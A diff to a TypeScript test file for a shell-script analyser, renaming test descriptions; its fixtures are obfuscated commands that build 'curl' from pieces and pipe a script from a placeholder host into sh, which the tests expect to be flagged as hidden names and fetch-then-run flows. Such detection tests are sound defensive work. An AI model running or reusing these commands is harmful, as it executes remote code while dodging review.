@@ -7,7 +7,7 @@ const flows = (script: string) => listFlows(readShellProgram(script))
 const texts = (script: string) => readShellProgram(script).texts.map(({ text }) => text.trim())
 const download = 'network-fetch https://e.example/x → program-run'
 
-describe('names of programs that are put together', () => {
+describe('program names that a shell script assembles from pieces', () => {
   const scripts = [
     'A=cu; B=rl; $A$B https://e.example/x | sh',
     'c""url https://e.example/x | sh',
@@ -29,7 +29,7 @@ describe('names of programs that are put together', () => {
   ]
   it.each(scripts)('are read in %s', (script) => expect(flows(script)).toContain(download))
 
-  it('are reported as hidden, with the command', () => {
+  it('are reported as hidden names, with the assembled command', () => {
     const { facts } = readShellProgram(scripts[0]!)
     expect(facts).toContainEqual(expect.objectContaining({ kind: 'hidden-name', value: 'curl' }))
     expect(texts(scripts[0]!)).toContain('curl https://e.example/x')
